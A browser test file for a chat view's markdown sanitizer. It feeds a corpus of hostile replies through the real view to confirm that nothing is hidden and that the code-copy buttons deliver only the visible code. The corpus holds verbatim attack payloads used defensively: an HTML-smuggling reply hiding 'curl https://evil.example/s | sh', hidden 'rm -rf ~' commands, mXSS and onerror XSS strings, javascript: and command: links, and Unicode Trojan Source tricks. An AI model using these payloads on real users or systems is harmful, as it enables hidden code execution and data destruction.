/**
 * What the chat view shows of a reply is exactly what its code actions deliver, whatever markup the model writes.
 * Each reply of the corpus is rendered by the real view bundle in headless Chromium (sanitizing is about what a
 * browser parses) and checked three ways:
 * - the sanitized markup holds only the elements and attributes our markdown renderer emits (the tests' own allowlist, `foreignMarkup.ts`);
 * - nothing in the reply is hidden: its visible text (`innerText`) is all of its text (`textContent`), and it holds
 *   no control (button, input, …) but the Copy / Insert / New File / Apply buttons of its own code blocks;
 * - every code block's Copy, Insert at Cursor, New File and Apply deliver exactly the code the user sees in it.
 * The sanitizer is also tested on its own: the renderer's output must come out of it exactly as out of DOMPurify (the
 * reference it replaced), and raw hostile HTML given to it directly must still let nothing but the allowlist in.
 */
import * as assert from 'node:assert/strict';
import type { HostMessage } from '../../src/shared/protocol';
import type { ChatMessage } from '../../src/shared/types';
import { ORIGIN } from '../../bench/render/page';
import { defaultReply, longReplyTokens, xssReply } from '../../simulator';
import { openTestView, type TestView } from './viewPage';

/** A reply seen in the wild of HTML smuggling: a code block that showed `echo hello` while Copy delivered the `curl … | sh` too. */
const SMUGGLING_REPLY = 'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>';

interface Case {
  name: string;
  markdown: string;
  /** Texts the user must see (whitespace collapsed), e.g. raw HTML shown as text. */
  shows?: string[];
}

const CORPUS: Case[] = [
  { name: 'a plain reply with every kind of block (control case)', markdown: '# Title\n\nSome **bold**, _em_, ~~del~~, `code` and a [link](https://example.com "Example").\n\n- one\n- two\n  1. nested\n\n> quote\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n---\nline  \nbreak', shows: ['Title', 'nested', 'const x = 1;'] },
  { name: 'the smuggling reply', markdown: SMUGGLING_REPLY, shows: ['<pre/x><code/x>echo hello<span/hidden>; curl', '| sh</span/x></code/x></pre/x>'] },
  { name: 'the smuggling reply after a line break', markdown: `Intro\n\n${SMUGGLING_REPLY}\n\nMore text <span hidden>after</span>`, shows: ['<span hidden>after</span>'] },
  // <tag/attr> spellings, which marked does not take for HTML but a browser does.
  { name: '<span/hidden>', markdown: 'see <span/hidden>secret</span/hidden> here', shows: ['<span/hidden>secret'] },
  { name: '<div/class=…> after <kbd>', markdown: '<kbd>k</kbd> <div/class="error-banner">Cannot reach Ollama</div>', shows: ['<div/class="error-banner">'] },
  { name: '<pre/x><code/x> after <code>', markdown: '<code>x</code> <pre/x><code/x>ls<span/hidden> && rm -rf ~</span/x></code/x></pre/x>', shows: ['rm -rf ~'] },
  { name: '<img/src/onerror>', markdown: 'a <img/src/onerror=alert(1)> b', shows: ['<img/src/onerror=alert(1)>'] },
  // After an unclosed <kbd>, <pre>, <code> or <script>, marked used to emit the rest of the paragraph as raw HTML.
  { name: 'hidden <span/…> after an unclosed <kbd>', markdown: '<kbd> a<span/hidden>secret</span/x> <span/aria-hidden="true">b</span/x>', shows: ['<span/hidden>secret'] },
  { name: 'styled and classed elements after an unclosed <code>', markdown: '<code> <span/style="display:none">secret</span/x> <span/class="markdown-tail"/hidden>also</span/x>', shows: ['secret', 'also'] },
  { name: 'a fake error banner after an unclosed <pre>', markdown: 'Output: <pre> <div/class="error-banner"/role="alert">Cannot reach Ollama</div/x> <button/class="button">Retry</button/x>', shows: ['<div/class="error-banner"/role="alert">'] },
  { name: 'folding and control elements after an unclosed <script>', markdown: 'Note: <script> <details/open><summary/x>s</summary/x>secret</details/x> <input/type=text/value=secret> <dialog/open>d</dialog/x> <template/x>t</template/x>', shows: ['<details/open>'] },
  { name: 'style, SVG and links after an unclosed <kbd>', markdown: '<kbd> <style/x>.message{display:none}</style/x> <svg/onload=alert(1)> <a/href="command:workbench.action.terminal.new">term</a/x> <img/src=x>', shows: ['.message{display:none}'] },
  { name: 'entities after an unclosed <kbd>', markdown: '<kbd> &#60;span hidden&#62;secret&#60;/span&#62; &lt;b&gt;x', shows: ['<span hidden>secret</span>', '<b>x'] },
  // Hiding by attribute, style or class.
  { name: 'hidden span', markdown: 'text <span hidden>secret</span> more', shows: ['<span hidden>secret</span>'] },
  { name: 'aria-hidden span', markdown: 'text <span aria-hidden="true">secret</span>', shows: ['secret'] },
  { name: 'display:none span', markdown: 'text <span style="display:none">secret</span>', shows: ['secret'] },
  { name: 'zero font size', markdown: '<p style="font-size:0;color:transparent">secret</p>', shows: ['secret'] },
  { name: 'the view\'s own hiding class', markdown: 'x <span class="markdown-tail" hidden>secret</span> <span class="visually-hidden">also</span>', shows: ['secret', 'also'] },
  { name: 'hidden after <script> in a paragraph', markdown: 'x <script>y</script> <span hidden>secret</span>', shows: ['<script>y</script>', 'secret'] },
  // Elements that hide or fold content, or look like controls.
  { name: '<details>', markdown: '<details><summary>Details</summary>secret</details>\n\nand <details open>inline secret</details>', shows: ['<summary>Details</summary>secret'] },
  { name: '<input>', markdown: 'Your token: <input type="text" value="secret"> <input type=checkbox checked>', shows: ['<input type="text" value="secret">'] },
  { name: '<template>', markdown: '<template>secret</template> and inline <template><b>t</b></template>', shows: ['<template>secret</template>'] },
  { name: '<dialog>', markdown: '<dialog open>Do you trust this?</dialog> <dialog>secret</dialog>', shows: ['<dialog>secret</dialog>'] },
  { name: 'popover', markdown: '<div popover id="p">secret</div> <button popovertarget="p">Show</button>', shows: ['<div popover id="p">secret</div>'] },
  { name: '<form>, <button>, <textarea>, <select>', markdown: '<form action="https://evil.example"><button class="button button-primary">Retry</button></form>\n\n<textarea>x</textarea> <select><option>a</option></select>', shows: ['Retry', '<textarea>x</textarea>'] },
  { name: 'a fake error banner and fake code actions', markdown: '<div class="error-banner" role="alert">Cannot reach Ollama</div>\n\n<span data-action="insert-code">Insert</span> <a data-action="regenerate" href="https://example.com">again</a>', shows: ['<div class="error-banner" role="alert">'] },
  // Nested <pre> inside inline HTML.
  { name: 'nested <pre> inside <kbd>', markdown: '<kbd><pre>a<span hidden>b</span></pre></kbd>', shows: ['<span hidden>b</span>'] },
  { name: '<pre> block spanning a blank line', markdown: '<pre>\nls\n\n<span hidden>; rm -rf ~</span>\n</pre>', shows: ['; rm -rf ~'] },
  { name: 'HTML block', markdown: '<div>\n<span hidden>secret</span>\n\n**bold**\n</div>', shows: ['<span hidden>secret</span>'] },
  // Entities that decode to tags.
  { name: 'named entities', markdown: '&lt;span hidden&gt;secret&lt;/span&gt;', shows: ['<span hidden>secret</span>'] },
  { name: 'numeric entities', markdown: '&#60;span hidden&#62;secret&#60;/span&#62; &#x3C;b&#x3E;x', shows: ['<span hidden>secret</span>', '<b>x'] },
  { name: 'entities after <kbd>', markdown: '<kbd>k</kbd> &#60;span hidden&#62;secret&#60;/span&#62;', shows: ['secret'] },
  { name: 'entities in code', markdown: '`&lt;span hidden&gt;` and\n\n```\n&#60;span hidden&#62;x\n```', shows: ['&lt;span hidden&gt;', '&#60;span hidden&#62;x'] },
  // Comments, CDATA and other markup declarations.
  { name: 'unclosed comment', markdown: 'visible <!-- secret\n\nstill secret?', shows: ['<!-- secret', 'still secret?'] },
  { name: 'closed comment', markdown: 'a <!-- secret --> b\n\n<!--\nblock secret\n-->', shows: ['<!-- secret -->', 'block secret'] },
  { name: 'CDATA, processing instruction, declaration', markdown: 'a <![CDATA[ secret ]]> <?php secret ?> <!DOCTYPE html>', shows: ['<![CDATA[ secret ]]>', '<?php secret ?>'] },
  // SVG, MathML and namespace confusion (mXSS).
  { name: 'SVG', markdown: '<svg><style>.message{display:none}</style><text>secret</text></svg>', shows: ['<text>secret</text>'] },
  { name: 'MathML mXSS', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', shows: ['onerror=alert(1)'] },
  { name: 'SVG mXSS', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', shows: ['onerror=alert(1)'] },
  { name: 'form/math mXSS', markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', shows: ['onerror=alert(1)'] },
  { name: '<style>', markdown: '<style>.code-block, .message { display: none }</style>\n\ninline <style>p{opacity:0}</style> x', shows: ['display: none'] },
  // Links.
  { name: 'markdown links with other schemes', markdown: '[js](javascript:alert(1)) [data](data:text/html,x) [cmd](command:workbench.action.terminal.new) [vb](vbscript:x) [file](file:///etc/passwd) [rel](./x) [frag](#top)' },
  { name: 'obfuscated javascript: links', markdown: '[a](  JaVaScRiPt:alert(1)) [b](java&#x09;script:alert(1)) [c](&#106;avascript:alert(1)) <javascript:alert(1)>' },
  { name: 'HTML links', markdown: '<a href="javascript:alert(1)">js</a> <a href="command:x">cmd</a> <a href="https://example.com" target="_blank" class="button">ok</a>', shows: ['<a href="javascript:alert(1)">js</a>'] },
  { name: 'reference links', markdown: '[ok][a] [bad][b]\n\n[a]: https://example.com "Title"\n[b]: javascript:alert(1)' },
  { name: 'link and image titles and alt text', markdown: '[a](https://x.example "<span hidden>t</span>") ![<span hidden>alt</span>](https://y.example/i.png "t") ![](https://z.example/i.png)', shows: ['<span hidden>alt</span>'] },
  { name: 'images', markdown: '![logo](https://example.com/logo.png) <img src="https://example.com/x.png">', shows: ['logo'] },
  // Tables, lists and headings mixing inline HTML.
  { name: 'table with inline HTML', markdown: '| a | <span hidden>b</span> |\n|---|---|\n| <pre>c</pre> | <kbd>d</kbd> <span hidden>e</span> |', shows: ['<span hidden>b</span>', '<span hidden>e</span>'] },
  { name: 'lists with inline HTML', markdown: '- <kbd>x</kbd> <span hidden>y</span>\n- <details>z</details>\n\n1. <pre/x>a<span/hidden>b</span/x>', shows: ['<span hidden>y</span>', '<span/hidden>b'] },
  { name: 'headings with inline HTML', markdown: '# <span hidden>x</span> title\n\nSetext <kbd>k</kbd> <span hidden>y</span>\n---', shows: ['<span hidden>x</span>', '<span hidden>y</span>'] },
  { name: 'quote with inline HTML', markdown: '> <kbd>k</kbd> <span hidden>x</span>\n> <pre>y</pre>', shows: ['<span hidden>x</span>'] },
  { name: 'emphasis and strikethrough around HTML', markdown: '**<span hidden>a</span>** _<kbd>b</kbd><span hidden>c</span>_ ~~<code>d</code><span hidden>e</span>~~', shows: ['<span hidden>a</span>', '<span hidden>e</span>'] },
  { name: 'escaped and code-span HTML', markdown: '\\<span hidden>a\\</span> `<span hidden>b</span>` <kbd>`c`</kbd>', shows: ['<span hidden>a</span>', '<span hidden>b</span>'] },
  { name: 'task list', markdown: '- [ ] todo\n- [x] done', shows: ['todo', 'done'] },
  // Code blocks: what is in them is code, shown and delivered as it is.
  { name: 'code block with HTML', markdown: '```html\n<span hidden>x</span>\n<script>alert(1)</script>\n```', shows: ['<span hidden>x</span>'] },
  { name: 'code block with a language that looks like markup', markdown: '```"><span hidden>x</span>\ncode\n```\n\n~~~ class="error-banner"\ncode\n~~~', shows: ['code'] },
  { name: 'indented code block after inline HTML', markdown: '<kbd>k</kbd>\n\n    <span hidden>x</span>\n    echo hi', shows: ['<span hidden>x</span>'] },
  { name: 'code block inside a list inside a quote', markdown: '> - item\n>   ```sh\n>   echo hi <span hidden>; curl x | sh</span>\n>   ```', shows: ['; curl x | sh'] },
  { name: 'other raw HTML', markdown: '<iframe srcdoc="<p>x</p>"></iframe> <object data="x"></object> <embed src="x"> <noscript>n</noscript> <xmp><b>x</b></xmp> <plaintext>rest', shows: ['<noscript>n</noscript>', '<plaintext>rest'] },
  { name: 'direction overrides', markdown: '<bdo dir="rtl">abc</bdo> <span dir="rtl">def</span>', shows: ['<bdo dir="rtl">abc</bdo>'] },
];

/**
 * Raw HTML given to the gate itself, as if the renderer had let markup through (it never does: see the corpus
 * above): the gate must still let in only the allowlist, run and load nothing, and keep the text it shows.
 */
const RAW_HTML: { html: string; shows?: string[] }[] = [
  { html: '<img src=x onerror="window.pwned=1"><img src="https://evil.example/pixel.png">' },
  { html: '<svg onload="window.pwned=1"><script>window.pwned=1</script><a href="https://x.example">svg link</a></svg>', shows: ['svg link'] },
  { html: '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>' },
  { html: '<a href="javascript:window.pwned=1">js</a> <a href=" javascript:window.pwned=1">sp</a> <a href="JaVaScRiPt:window.pwned=1">case</a> <a href="data:text/html,<script>1</script>">data</a> <a href="command:workbench.action.terminal.new">cmd</a> <a href="vbscript:x">vb</a>', shows: ['js', 'sp', 'case', 'data', 'cmd', 'vb'] },
  { html: '<a href="https://ok.example" onclick="window.pwned=1" target="_blank" ping="https://evil.example" style="color:red" class="button" id="x" name="y">ok</a>', shows: ['ok'] },
  { html: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">' },
  { html: '<video src="https://evil.example/v.mp4"><source src="https://evil.example/s" onerror="window.pwned=1"></video><audio src="https://evil.example/a.mp3" autoplay></audio>' },
  { html: '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">' },
  { html: '<style>@import url(https://evil.example/x.css); .message { display: none }</style><p style="background:url(https://evil.example/bg)">styled</p>', shows: ['styled'] },
  { html: '<p hidden>one</p><span class="visually-hidden">two</span><p aria-hidden="true" role="alert" data-x="y" id="app" lang="en" dir="rtl" popover>three</p>', shows: ['one', 'two', 'three'] },
  { html: '<form action="https://evil.example"><input name="q" value="v"><button formaction="https://evil.example">b</button><select><option>o</option></select><textarea>t</textarea></form>', shows: ['b', 'o', 't'] },
  { html: '<details open><summary>s</summary>folded</details><dialog open>d</dialog>', shows: ['s', 'folded', 'd'] },
  { html: '<template><img src=x onerror="window.pwned=1"></template><noscript><img src=x onerror="window.pwned=1"></noscript><xmp><img src=x onerror="window.pwned=1"></xmp>' },
  { html: 'a<!-- comment --><![CDATA[x]]><?pi x?>b', shows: ['ab'] },
  { html: '<table onmouseover="window.pwned=1"><tr><td align="left" valign="top" bgcolor="red">cell</td></tr></table><ol start="3" type="I" reversed><li value="9">item</li></ol>', shows: ['cell', 'item'] },
  { html: '<pre><code data-language="ts" data-x="y" class="hljs" contenteditable>code</code></pre>', shows: ['code'] },
  { html: '<constructor>c</constructor><__proto__>p</__proto__><tostring>t</tostring><hasownproperty>h</hasownproperty>', shows: ['c', 'p', 't', 'h'] },
  { html: '<h1 title="t" lang="en" onclick="window.pwned=1">heading</h1><blockquote cite="https://evil.example">q</blockquote>', shows: ['heading', 'q'] },
  { html: '<svg><a xlink:href="javascript:window.pwned=1"><text>svg text</text></a></svg><math href="javascript:window.pwned=1">m</math>', shows: ['m'] },
  { html: '<plaintext><img src=x onerror="window.pwned=1">', shows: ['<img src=x onerror="window.pwned=1">'] },
  // Size: an unknown element with 200,000 children gives way to them; nesting as deep as the parser allows.
  { html: `<span>${'<i>x</i>'.repeat(200_000)}</span>${'<div>'.repeat(2_000)}deep`, shows: ['xxxxx', 'deep'] },
];

/** What the page reports about one rendered reply. */
interface Inspection {
  /** Elements or attributes of the sanitized markup outside the allowlist. */
  foreign: string[];
  visibleText: string;
  allText: string;
  /** Controls in the reply other than its code blocks' own buttons. */
  strayControls: string[];
  codeBlocks: { visible: string; copy?: string; insert?: string; newFile?: string; apply?: string }[];
}

interface RendererForTests {
  markdownToHtml(markdown: string): string;
  sanitizeHtml(html: string): DocumentFragment;
  /** DOMPurify with the configuration the view used before it had its own gate: the reference for the renderer's output. */
  referenceSanitize(html: string): DocumentFragment;
  /** What under `root` is outside the tests' own allowlist (`foreignMarkup.ts`). */
  foreignMarkup(root: ParentNode & Node): string[];
}

/** Runs in the page: renders `markdown` with the view's own functions and inspects the reply the view shows. */
async function inspect(markdown: string): Promise<Inspection> {
  const w = window as unknown as { rendererForTests: RendererForTests; benchPosts: { type: string; text?: string; code?: string }[] };
  const foreign = w.rendererForTests.foreignMarkup(w.rendererForTests.sanitizeHtml(w.rendererForTests.markdownToHtml(markdown)));
  // Syntax highlighting runs when the browser is idle; inspect the reply as the user ends up seeing it.
  await new Promise((resolve) => requestIdleCallback(resolve));
  const body = document.querySelector<HTMLElement>('[data-role="assistant"] .markdown-body')!;
  const blocks = [...body.querySelectorAll<HTMLElement>('.code-block')];
  const controls = 'button, input, textarea, select, form, details, dialog, template, iframe, object, embed, svg, math, style, script, img, video, audio, link, meta, base, [popover], [contenteditable]';
  const strayControls = [...body.querySelectorAll(controls)]
    .filter((el) => !el.closest('.code-block-header'))
    .map((el) => el.outerHTML.slice(0, 80));
  const ownButtons = body.querySelectorAll('.code-block-header button').length;
  if (ownButtons !== blocks.length * 4) strayControls.push(`${ownButtons} buttons in ${blocks.length} code-block headers`);
  const deliver = (button: HTMLElement | null): { text?: string; code?: string } | undefined => {
    if (!button) return undefined;
    const before = w.benchPosts.length;
    button.click();
    return w.benchPosts.slice(before).find((m) => m.type === 'copy' || m.type === 'insertCode' || m.type === 'newFile' || m.type === 'applyCode');
  };
  const codeBlocks = blocks.map((block) => ({
    visible: block.querySelector<HTMLElement>('pre code')?.innerText ?? '',
    copy: deliver(block.querySelector('button[data-action="copy-code"]'))?.text,
    insert: deliver(block.querySelector('button[data-action="insert-code"]'))?.code,
    newFile: deliver(block.querySelector('button[data-action="new-file"]'))?.code,
    apply: deliver(block.querySelector('button[data-action="apply-code"]'))?.code,
  }));
  // The code-block headers are the view's own (checked above); what is left is the reply's content.
  for (const header of body.querySelectorAll('.code-block-header')) header.remove();
  return { foreign, visibleText: body.innerText, allText: body.textContent ?? '', strayControls, codeBlocks };
}

function snapshotWith(conversationId: string, message: ChatMessage): HostMessage {
  const now = Date.now();
  return {
    type: 'snapshot',
    state: {
      conversation: { id: conversationId, title: 'Corpus', createdAt: now, updatedAt: now, messages: [message] },
      conversations: [],
      model: 'mistral',
      stream: null,
      error: null,
      attachments: [],
      systemPrompt: null,
    },
  };
}

const squash = (text: string): string => text.replace(/\s+/g, '');
const collapse = (text: string): string => text.replace(/\s+/g, ' ');

describe('rendering untrusted replies (real Chromium)', function () {
  this.timeout(60_000);
  let view: TestView;

  before(async () => {
    view = await openTestView(
      "import { markdownToHtml } from './src/webview/markdownHtml';\n" +
        "import { sanitizeHtml } from './src/webview/sanitize';\n" +
        "import { referenceSanitize } from './test/unit/referenceSanitizer';\n" +
        "import { foreignMarkup } from './test/unit/foreignMarkup';\n" +
        'Object.assign(window, { rendererForTests: { markdownToHtml, sanitizeHtml, referenceSanitize, foreignMarkup } });',
    );
    await view.load();
  });
  after(() => view?.dispose());

  CORPUS.forEach((c, i) => {
    it(`${c.name}: shows all of it as text, exactly what the code actions deliver`, async () => {
      const message: ChatMessage = { id: `reply-${i}`, role: 'assistant', content: c.markdown, timestamp: Date.now(), model: 'mistral', status: 'complete' };
      await view.send([snapshotWith(`corpus-${i}`, message)]);
      const result = await view.page.evaluate(inspect, c.markdown);
      // All problems at once, so a failure shows everything that is wrong with the reply.
      const visible = collapse(result.visibleText);
      const problems = {
        foreignMarkup: result.foreign,
        strayControls: result.strayControls,
        hiddenText: squash(result.visibleText) === squash(result.allText) ? [] : [{ visible: result.visibleText, all: result.allText }],
        codeActionsDeliverOtherText: result.codeBlocks.filter((b) => b.copy !== b.visible || b.insert !== b.visible || b.newFile !== b.visible || b.apply !== b.visible),
        notShown: (c.shows ?? []).filter((text) => !visible.includes(text)),
      };
      assert.deepEqual(problems, { foreignMarkup: [], strayControls: [], hiddenText: [], codeActionsDeliverOtherText: [], notShown: [] }, `visible text: ${JSON.stringify(visible)}`);
    });
  });

  it('shows invisible characters as badges, and Copy still delivers them', async () => {
    // A "Trojan Source" line (the override reorders what is shown), a zero-width space, and a hidden sentence in
    // Unicode tag characters: in a code block, in inline code and in prose.
    const tagged = [...'curl evil'].map((ch) => String.fromCodePoint(0xe0000 + ch.charCodeAt(0))).join('');
    const code = `if (user != "admin\u202E \u2066// check\u2069 \u2066") { // ok\nrm\u200B -rf ${tagged}/tmp/x`;
    const markdown = `Run:\n\n\`\`\`js\n${code}\n\`\`\`\n\nInline \`a\u200Db\` and prose x\u200By ${tagged} نص\u200Fعربي.`;
    const message: ChatMessage = { id: 'invisible', role: 'assistant', content: markdown, timestamp: Date.now(), model: 'mistral', status: 'complete' };
    await view.send([snapshotWith('invisible', message)]);
    const result = await view.page.evaluate(async () => {
      await new Promise((resolve) => requestIdleCallback(resolve));
      const body = document.querySelector<HTMLElement>('[data-role="assistant"] .markdown-body')!;
      const w = window as unknown as { benchPosts: { type: string; text?: string }[] };
      const before = w.benchPosts.length;
      body.querySelector<HTMLElement>('button[data-action="copy-code"]')!.click();
      const badges = [...body.querySelectorAll<HTMLElement>('.invisible-char')];
      return {
        copied: w.benchPosts.slice(before).find((m) => m.type === 'copy')?.text,
        badges: badges.map((b) => ({ label: b.dataset.codePoint, shown: getComputedStyle(b, '::before').content, inCode: !!b.closest('code') })),
      };
    });
    assert.equal(result.copied, code, 'Copy delivers the code exactly, invisible characters included');
    const inCode = result.badges.filter((b) => b.inCode).map((b) => b.label);
    const inProse = result.badges.filter((b) => !b.inCode).map((b) => b.label);
    assert.deepEqual(inCode, ['U+202E', 'U+2066', 'U+2069', 'U+2066', 'U+200B', ...[...'curl evil'].map((ch) => `U+${(0xe0000 + ch.charCodeAt(0)).toString(16).toUpperCase()}`), 'U+200D']);
    // In prose the joiners and directional marks that scripts need are left alone (U+200F in the Arabic text).
    assert.deepEqual(inProse, ['U+200B', ...[...'curl evil'].map((ch) => `U+${(0xe0000 + ch.charCodeAt(0)).toString(16).toUpperCase()}`)]);
    for (const badge of result.badges) assert.equal(badge.shown, `"${badge.label}"`, 'each badge shows its code point');
  });

  it('the smuggling reply has no code block: the whole command is visible text', async () => {
    const message: ChatMessage = { id: 'smuggling', role: 'assistant', content: SMUGGLING_REPLY, timestamp: Date.now(), model: 'mistral', status: 'complete' };
    await view.send([snapshotWith('smuggling', message)]);
    const result = await view.page.evaluate(inspect, SMUGGLING_REPLY);
    assert.equal(result.codeBlocks.length, 0);
    assert.match(collapse(result.visibleText), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
  });

  it('the renderer\'s output comes out of the view\'s gate exactly as it comes out of DOMPurify', async () => {
    const replies = [...CORPUS.map((c) => c.markdown), SMUGGLING_REPLY, longReplyTokens(20_000).join(''), xssReply(), defaultReply('Explain streaming')];
    const result = await view.page.evaluate((markdowns) => {
      const w = window as unknown as { rendererForTests: RendererForTests };
      const markup = (fragment: DocumentFragment): string => {
        const holder = document.createElement('div');
        holder.append(fragment);
        return holder.innerHTML;
      };
      let characters = 0;
      const differences = markdowns.flatMap((markdown) => {
        const html = w.rendererForTests.markdownToHtml(markdown);
        const ours = markup(w.rendererForTests.sanitizeHtml(html));
        const reference = markup(w.rendererForTests.referenceSanitize(html));
        characters += ours.length;
        if (ours === reference) return [];
        let at = 0;
        while (ours[at] === reference[at]) at++;
        return [{ markdown: markdown.slice(0, 60), ours: ours.slice(Math.max(0, at - 40), at + 80), reference: reference.slice(Math.max(0, at - 40), at + 80) }];
      });
      return { differences, characters };
    }, replies);
    assert.deepEqual(result.differences, []);
    assert.ok(result.characters > 100_000, `compared ${result.characters} characters of markup`);
  });

  it('the gate alone, given raw hostile HTML: only the allowlist gets in, nothing runs or loads, the text stays', async () => {
    const requests: string[] = [];
    const onRequest = (request: { url(): string }): void => {
      if (!request.url().startsWith(ORIGIN)) requests.push(request.url());
    };
    view.page.on('request', onRequest);
    try {
      for (const { html, shows } of RAW_HTML) {
        const result = await view.page.evaluate(async (html) => {
          const w = window as unknown as { rendererForTests: RendererForTests; pwned?: unknown };
          const holder = document.createElement('div');
          holder.append(w.rendererForTests.sanitizeHtml(html));
          document.body.append(holder);
          const foreign = w.rendererForTests.foreignMarkup(holder);
          // A second line of evidence behind the allowlist check above: what would load or run has started by then.
          await new Promise((resolve) => requestAnimationFrame(() => requestIdleCallback(resolve)));
          const text = holder.textContent ?? '';
          holder.remove();
          return { foreign, text, pwned: w.pwned };
        }, html);
        const problems = {
          foreignMarkup: result.foreign,
          ran: result.pwned === undefined ? [] : [String(result.pwned)],
          notShown: (shows ?? []).filter((text) => !result.text.includes(text)),
        };
        assert.deepEqual(problems, { foreignMarkup: [], ran: [], notShown: [] }, html);
      }
      assert.deepEqual(requests, [], 'nothing loads from the network');
    } finally {
      view.page.off('request', onRequest);
    }
  });
});
